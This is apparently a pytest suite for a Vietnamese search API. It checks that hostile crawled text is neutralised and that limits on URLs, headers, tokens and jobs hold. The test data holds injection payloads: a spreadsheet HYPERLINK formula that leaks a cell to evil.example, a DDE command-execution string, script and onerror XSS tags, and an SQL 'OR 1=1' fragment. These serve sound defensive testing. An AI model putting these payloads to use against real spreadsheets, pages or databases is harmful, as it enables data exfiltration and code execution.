"""Hostile inputs over real HTTP (issue 15): crawled text in exports, Unicode digits, oversized requests,
name filters without letters, impossible dates, HEAD, the archived HTML's headers, the writing endpoints'
token and jobs, and which dotenv file is read."""

from __future__ import annotations

import csv
import io
import os
import socket
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import httpx
import pytest

from corpus.models import Article
from corpus.store import CorpusStore
from search_api.export import FORMULA_START
from search_api.http_limits import MAX_HEADER_BYTES, MAX_TARGET_BYTES
from search_api.indexing import sync
from tests.conftest import VENV_BIN
from tests.search_api.conftest import Server, _wait_http
from thidua.settings import Settings

API = "/api/v1"
Api = tuple[httpx.Client, dict[str, Any], Any]
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Đà Lạt")'
SENTENCE = (
    f"Năm 2022, {FORMULA} làm Cụm trưởng <img src=x onerror=alert(1)><script>alert(2)</script> "
    "Cụm thi đua số 1."
)
PLACE = "-2+3+cmd|' /C calc'!A0"


def _hostile_corpus(db: Path) -> None:
    """One article whose text, URL and facts carry markup and spreadsheet formulas."""
    article = Article(
        url='https://evil.example/a"><script>alert(3)</script>',
        title="<script>alert(4)</script> Cụm thi đua số 1",
        text=SENTENCE,
        published="2022-03-01",
        site="evil.example",
        province="Lâm Đồng",
        raw_html='<html><body><p>bài</p><img id="probe" src="/static/thidua.css"></body></html>',
    )
    evidence = {"sentence": SENTENCE, "start": 0, "end": len(SENTENCE), "rule": "test.hostile.v1"}
    facts = [
        {"type": "chair", "role": "chair", "unit": FORMULA, "cluster": "Cụm thi đua số 1", "year": 2022},
        {"type": "event", "kind": "review", "date": "2022-03-01", "place": PLACE, "cluster": "@SUM(1+1)"},
    ]
    with CorpusStore(db) as store:
        store.upsert_article(article)
        store.replace_facts(
            article, [{**f, "id": f"h{i}", "evidence": evidence} for i, f in enumerate(facts)]
        )


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory, free_port: Callable[[], int]) -> Iterator[Any]:
    """The hostile corpus indexed in SQLite and served by uvicorn; yields (client, settings, server)."""
    settings = Settings(data_dir=tmp_path_factory.mktemp("hostile") / "var", es_url=None, api_token="s3cret")
    _hostile_corpus(settings.db_path)
    sync(settings)
    with Server(settings, free_port()) as server, httpx.Client(base_url=server.url, timeout=30) as client:
        yield client, settings, server


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))


def _tags(markup: str) -> list[tuple[str, list[tuple[str, str | None]]]]:
    parser = _Tags()
    parser.feed(markup)
    return parser.tags


# -- item 3: exports ------------------------------------------------------------------------------------


def test_timelinejs_export_escapes_crawled_text(hostile: Any) -> None:
    client, _, _ = hostile
    doc = client.get(f"{API}/export", params={"format": "timelinejs"}).json()
    assert len(doc["events"]) == 2
    for event in doc["events"]:
        assert _tags(event["text"]["headline"]) == []
        assert _tags(event["group"]) == []
        # the evidence sentence is text: its <img> and <script> arrive escaped, and the only element is
        # the link to the source, whose address cannot leave its attribute
        assert "&lt;script&gt;alert(2)&lt;/script&gt;" in event["text"]["text"]
        assert [tag for tag, _ in _tags(event["text"]["text"])] == ["a"]
        ((_, attrs),) = _tags(event["text"]["text"])
        assert attrs == [("href", 'https://evil.example/a"><script>alert(3)</script>')]


def test_csv_export_has_no_formula_cells(hostile: Any) -> None:
    client, _, _ = hostile
    resp = client.get(f"{API}/export", params={"format": "csv"})
    rows = list(csv.DictReader(io.StringIO(resp.text)))
    assert len(rows) == 2
    cells = [value for row in rows for value in row.values() if value]
    assert not [c for c in cells if c.startswith(FORMULA_START)], "a spreadsheet would run these"
    assert "'" + FORMULA in cells and "'" + PLACE in cells and "'@SUM(1+1)" in cells
    assert any(c.startswith("Năm 2022, =HYPERLINK(") for c in cells), "a formula inside text is left alone"


# -- item 4: Unicode digits -----------------------------------------------------------------------------

UNICODE_DIGITS = ["²", "①", "٢٠٢٢", "२०२२", "２０２２", "2022²"]


@pytest.mark.parametrize("digits", UNICODE_DIGITS)
@pytest.mark.parametrize(
    "path",
    ["/facts?year={}", "/facts?limit={}", "/facts?offset={}", "/timeline?unit=Đà Lạt&year={}",
     "/check?unit=Đà Lạt&year={}", "/articles?date_from={}", "/articles?limit={}", "/units?offset={}",
     "/export?year={}", "/facts?min_confidence=0.{}"],
)  # fmt: skip
def test_unicode_digits_are_422_on_the_api(api: Api, path: str, digits: str) -> None:
    client, _, _ = api
    resp = client.get(API + path.format(digits))
    assert resp.status_code == 422, resp.text


# -- item 8: names without letters, impossible dates ----------------------------------------------------


@pytest.mark.parametrize("endpoint", ["/facts", "/timeline", "/export"])
@pytest.mark.parametrize("cluster", ["'", "%", "--", "…", "' OR 1=1 --"])
def test_a_cluster_name_without_letters_matches_nothing(api: Api, endpoint: str, cluster: str) -> None:
    client, _, _ = api
    assert client.get(f"{API}/facts", params={"type": "cluster"}).json()["total"] > 0
    resp = client.get(API + endpoint, params={"cluster": cluster, "format": "jsonl"})
    assert resp.status_code == 200
    assert (resp.json()["total"] == 0) if endpoint != "/export" else (resp.text == "")


@pytest.mark.parametrize("date", ["2022-02-31", "2022-13", "2022-00-10", "0000", "2023-02-29", "2022-1-5"])
def test_impossible_dates_are_422(api: Api, date: str) -> None:
    client, _, _ = api
    for name in ("date_from", "date_to"):
        resp = client.get(f"{API}/articles", params={name: date})
        assert resp.status_code == 422 and resp.json()["detail"][0]["loc"] == ["query", name]
    assert client.get(f"{API}/articles", params={"date_from": "2024-02-29"}).status_code == 200


# -- item 8: HEAD, the archived HTML --------------------------------------------------------------------


@pytest.mark.parametrize(
    "path",
    ["/health", f"{API}/facts?type=chair", f"{API}/articles?q=thi", f"{API}/export?format=csv", "/search"],
)
def test_head_is_answered_like_get(api: Api, path: str) -> None:
    client, _, _ = api
    got, head = client.get(path), client.head(path)
    assert head.status_code == got.status_code == 200
    assert head.content == b""
    assert head.headers["content-type"] == got.headers["content-type"]
    if "content-length" in got.headers:
        assert head.headers["content-length"] == got.headers["content-length"] == str(len(got.content))


def test_archived_html_is_served_inert(hostile: Any) -> None:
    client, _, _ = hostile
    article = client.get(f"{API}/articles", params={"q": "cụm"}).json()["items"][0]
    resp = client.get(f"{API}/articles/{article['id']}/raw")
    assert resp.status_code == 200 and 'id="probe"' in resp.text
    assert resp.headers["x-content-type-options"] == "nosniff"
    assert resp.headers["content-disposition"] == f'inline; filename="{article["id"]}.html"'
    policy = dict(
        ([*part.split(" ", 1), ""])[:2]
        for part in (p.strip() for p in resp.headers["content-security-policy"].split(";"))
    )
    assert "sandbox" in policy and policy["default-src"] == "'none'"
    assert "'self'" not in resp.headers["content-security-policy"], "nothing may load from this origin"
    assert policy["img-src"] == "data:"


# -- item 5: oversized requests -------------------------------------------------------------------------


def _raw_request(port: int, target: bytes, headers: bytes = b"", method: bytes = b"GET") -> bytes:
    """The status line of a request sent as bytes (httpx refuses URLs this long, or blank headers)."""
    with socket.create_connection(("127.0.0.1", port), timeout=20) as sock:
        head = method + b" " + target + b" HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 0\r\n"
        sock.sendall(head + headers + b"\r\n")
        data = b""
        while b"\r\n" not in data and (chunk := sock.recv(65536)):
            data += chunk
    return data.split(b"\r\n", 1)[0]


def _check_limits(port: int) -> None:
    # before the limit the parser truncated the URL: this answered 200 with every fact
    assert _raw_request(port, f"{API}/facts?x={'a' * 65_536}&year=1800".encode()).endswith(
        b"414 Request-URI Too Long"
    )
    assert _raw_request(port, f"{API}/facts?x={'a' * MAX_TARGET_BYTES}".encode()).startswith(b"HTTP/1.1 414")
    many = b"".join(b"x-h%d: %s\r\n" % (n, b"b" * 1000) for n in range(MAX_HEADER_BYTES // 1000 + 1))
    assert _raw_request(port, b"/health", many).startswith(b"HTTP/1.1 431")
    assert _raw_request(port, b"/health", b"x-big: " + b"b" * 200_000 + b"\r\n").startswith(b"HTTP/1.1 431")
    assert _raw_request(port, f"{API}/facts?year=1800".encode()).startswith(b"HTTP/1.1 422")
    assert _raw_request(port, f"{API}/articles?q={'x' * 10_000}".encode()).startswith(b"HTTP/1.1 200")


def test_oversized_requests_are_refused_before_the_app(hostile: Any) -> None:
    _, _, server = hostile
    _check_limits(int(server.url.rsplit(":", 1)[1]))


@pytest.mark.parametrize("workers", [1, 2])
def test_thidua_serve_refuses_oversized_requests(
    hostile: Any, free_port: Callable[[], int], workers: int
) -> None:
    _, settings, _ = hostile
    port = free_port()
    env = {**os.environ, "THIDUA_DATA_DIR": str(settings.data_dir)}
    env.pop("THIDUA_ES_URL", None)
    cmd = [str(VENV_BIN / "thidua"), "serve", "--port", str(port), "--workers", str(workers)]
    proc = subprocess.Popen(cmd, env=env, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        assert _wait_http(f"http://127.0.0.1:{port}/health", 60, proc), "thidua serve did not start"
        _check_limits(port)
    finally:
        proc.terminate()
        proc.wait(timeout=30)


# -- item 8: the writing endpoints ----------------------------------------------------------------------


@pytest.mark.parametrize("token", ["", " ", "\t \n"])
def test_a_blank_token_leaves_writes_off(tmp_path: Path, free_port: Callable[[], int], token: str) -> None:
    settings = Settings(data_dir=tmp_path / "var", es_url=None, api_token=token)
    assert settings.api_token is None
    with Server(settings, free_port()) as server:
        port = int(server.url.rsplit(":", 1)[1])
        for header in (
            b"",
            b"Authorization: Bearer \r\n",
            b"Authorization: Bearer  \r\n",
            b"Authorization: Bearer\r\n",
        ):
            assert _raw_request(port, f"{API}/admin/reindex".encode(), header, b"POST").startswith(
                b"HTTP/1.1 403"
            )


def test_an_empty_bearer_never_authenticates(hostile: Any) -> None:
    client, _, server = hostile
    port = int(server.url.rsplit(":", 1)[1])
    for header in (b"Bearer", b"Bearer ", b"Bearer  ", b"bearer s3cret", b"s3cret", b"Bearer \ts3cret"):
        status = _raw_request(
            port, f"{API}/admin/reindex".encode(), b"Authorization: " + header + b"\r\n", b"POST"
        )
        assert status.startswith(b"HTTP/1.1 401"), header
    assert client.post(f"{API}/admin/reindex", headers={"Authorization": "Bearer s3cret"}).status_code == 200


def _reaped(pid: int) -> bool:
    """Whether the process is gone (not even a zombie), read from /proc without reaping it."""
    try:
        return Path(f"/proc/{pid}/stat").read_text().split(") ", 1)[1][0] == "X"
    except (FileNotFoundError, ProcessLookupError):
        return True


def test_jobs_are_capped_and_reaped_without_polling(hostile: Any) -> None:
    client, settings, server = hostile
    auth = {"Authorization": "Bearer s3cret"}
    jobs = server.server.config.app.state.jobs
    started = [jobs.start("test", [sys.executable, "-c", "import time; time.sleep(3)"])
               for _ in range(settings.api_max_jobs)]  # fmt: skip
    refused = client.post(f"{API}/admin/crawl", json={"site": "baolamdong"}, headers=auth)
    assert refused.status_code == 429 and refused.headers["retry-after"] == "60"
    assert "running" in refused.json()["detail"]
    assert client.get(f"{API}/admin/jobs/{started[0].id}", headers=auth).json()["state"] == "running"
    deadline = time.monotonic() + 30
    while not all(_reaped(job.pid) for job in started) and time.monotonic() < deadline:
        time.sleep(0.1)  # nobody asks for the jobs' state meanwhile
    assert all(_reaped(job.pid) for job in started), "a finished job was left as a zombie"
    state = client.get(f"{API}/admin/jobs/{started[0].id}", headers=auth).json()
    assert state["state"] == "done" and state["exit_code"] == 0
    assert client.post(f"{API}/admin/crawl", json={"site": "nowhere"}, headers=auth).status_code == 422


# -- item 8: the dotenv file ----------------------------------------------------------------------------


def _index_in(cwd: Path, **env: str) -> subprocess.CompletedProcess[str]:
    environ = {k: v for k, v in os.environ.items() if not k.startswith("THIDUA_")}
    return subprocess.run(
        [str(VENV_BIN / "thidua"), "index"], cwd=cwd, env={**environ, **env}, capture_output=True, text=True,
        timeout=120,
    )  # fmt: skip


def test_a_dotenv_file_is_read_only_when_asked(tmp_path: Path) -> None:
    (tmp_path / ".env").write_text(f"THIDUA_DATA_DIR={tmp_path / 'from-dotenv'}\n", encoding="utf-8")
    quiet = _index_in(tmp_path)
    assert quiet.returncode == 0, quiet.stderr
    assert (tmp_path / "var" / "thidua.sqlite3").exists() and not (tmp_path / "from-dotenv").exists()
    assert "./.env is not read (set THIDUA_ENV_FILE=.env to read it)" in quiet.stderr
    asked = _index_in(tmp_path, THIDUA_ENV_FILE=".env")
    assert asked.returncode == 0, asked.stderr
    assert (tmp_path / "from-dotenv" / "thidua.sqlite3").exists()
    assert "also read from .env" in asked.stderr
